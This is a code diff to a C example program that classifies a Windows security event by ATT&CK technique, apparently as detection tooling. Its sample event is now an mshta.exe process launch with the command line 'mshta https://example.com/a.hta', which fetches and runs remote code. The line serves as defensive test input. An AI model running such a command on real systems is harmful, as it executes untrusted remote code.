@@ -7,7 +7,7 @@
 
 #include <stdio.h>
 
-enum { FIELDS = 4, BEST = 3 };
+enum { FIELDS = 5, BEST = 3 };
 
 struct event {
     struct {
@@ -43,16 +43,18 @@ static void print_techniques(const struct attack_db *db, struct event *event)
 
     printf("%.*s:", id.text ? (int)id.length : 1, id.text ? id.text : "-");
     for (uint32_t i = 0; i < count && attack_technique_at(db, answers[i].technique, &technique); i++)
-        printf(" %s (%s)", technique.id, technique.name ? technique.name : "-");
+        printf("%s %s (%s)", answers[i].kind == ATTACK_CANDIDATE ? " perhaps" : "", technique.id,
+               technique.name ? technique.name : "-");
     putchar('\n');
 }
 
 int main(void)
 {
-    struct event event = {{{ATTACK_TEXT("EventID"), ATTACK_TEXT("4663")},
+    struct event event = {{{ATTACK_TEXT("EventID"), ATTACK_TEXT("4688")},
                            {ATTACK_TEXT("Provider"), ATTACK_TEXT("Microsoft-Windows-Security-Auditing")},
                            {ATTACK_TEXT("Channel"), ATTACK_TEXT("Security")},
-                           {ATTACK_TEXT("ObjectType"), ATTACK_TEXT("Key")}}};
+                           {ATTACK_TEXT("NewProcessName"), ATTACK_TEXT("C:\\Windows\\System32\\mshta.exe")},
+                           {ATTACK_TEXT("CommandLine"), ATTACK_TEXT("mshta https://example.com/a.hta")}}};
 
     print_techniques(attack_events_builtin(), &event);
     return 0;
